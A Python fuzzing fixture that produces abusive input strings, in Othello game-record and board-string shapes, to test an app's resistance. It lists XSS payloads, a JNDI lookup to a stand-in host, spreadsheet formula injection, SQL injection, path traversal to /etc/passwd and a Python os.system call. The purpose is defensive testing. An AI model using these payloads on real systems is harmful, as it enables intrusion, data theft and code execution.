"""Texts that somebody might feed the app to break or abuse it, in the shapes it reads; the same ones for a seed."""

from __future__ import annotations

import random
from collections.abc import Iterator

MARK = (
    "hostile"  # every element, address or variable that an attack would make has this in its name
)
ATTACKS = (
    "<script>window.hostile=1</script>",
    "<img src=x onerror=window.hostile=1>",
    "<svg onload=window.hostile=1>",
    "<iframe src=javascript:parent.hostile=1></iframe>",
    "<b id=hostile>bold</b>",
    "<style id=hostile>*{display:none}</style>",
    "<a href='javascript:window.hostile=1'>x</a>",
    '"><img src=//hostile.example/x.png>',
    "&lt;b id=hostile&gt;&#x3c;i&#62;",
    "![x](http://hostile.example/x.png)",
    "[x](javascript:window.hostile=1)",
    "[x](http://hostile.example)",
    "http://hostile.example",
    "**bold** _it_ ~~no~~ `code`",
    "# Heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```",
    "$x^2$",
    "$$\\frac{1}{2}$$",
    "\\href{javascript:hostile}{x}",
    "$\\htmlId{hostile}{x}$",
    ":smile: :material/delete:",
    ":red[hostile]",
    ":blue-background[x] :orange-badge[y]",
    ":streamlit: -> <- (c) --",
    '=HYPERLINK("http://hostile.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "{{7*7}} ${jndi:ldap://hostile.example} #{7*7}",
    "%s%n%x {0} {self.__class__}",
    "'; DROP TABLE games; --",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "\u202ef5 d6\u202c",
    "f5\u200bd6\ufeff",
    "ｆ５ｄ６",
    "f\u0335\u0336\u0337\u0338" * 20,
    "٥²₃",
    "\u0001\u0007\u001b[31mred",
    "💥" * 40,
    "a1" * 1500,
    "X" * 63,
    "X" * 66,
    "-" * 63 + "Q",
    "f5" * 900,
    "None",
    "NaN",
    "true",
    "-1",
    "1e999",
    "__import__('os').system('id')",
    "<!--",
    "]]>",
    "</script>",
    "\\",
    "\\\\*x\\*",
)
CARRIERS = (
    "{}",
    "f5{}",
    "f5d6{}",
    "{}f5d6c3",
    "1. f5 2. {}",
    "---------------------------OX------XO{}",
    "X {} O",
    "(;GM[2]FF[4]SZ[8]PB[{}]PW[y];B[f5];W[d6])",
    "(;GM[2]FF[4]SZ[8];B[{}])",
    "(;GM[Othello]PB[{}]PW[b]TY[8]BO[8 -*];)",
    "(;GM[Othello]PC[x]PB[a]PW[{}]TI[5]TY[8]"
    "BO[8 ---------------------------O*------*O--------------------------- *]B[f5]W[d6];)",
    "---------------------------OX------XO--------------------------- X; {} : 1;",
    "% {}",
)


def texts(count: int, seed: int = 0, most: int = 4000) -> Iterator[str]:
    """So many different texts of at most `most` UTF-16 units, beginning with every attack on its own."""
    draw, seen = random.Random(seed), set()
    while len(seen) < count:
        attack = ATTACKS[len(seen)] if len(seen) < len(ATTACKS) else draw.choice(ATTACKS)
        text = attack if len(seen) < len(ATTACKS) else draw.choice(CARRIERS).replace("{}", attack)
        if len(seen) >= len(ATTACKS):
            for _ in range(draw.randrange(3)):
                place = draw.randrange(len(text) + 1)
                text = (
                    text[:place]
                    + draw.choice("<>&\"'`*_$:[](){}|~#\\=%;, XO-f5d6é\u202e")
                    + text[place:]
                )
        text = text[: most // 2]
        if text.strip() and text not in seen and text.strip().lower() != "start":
            seen.add(text)
            yield text
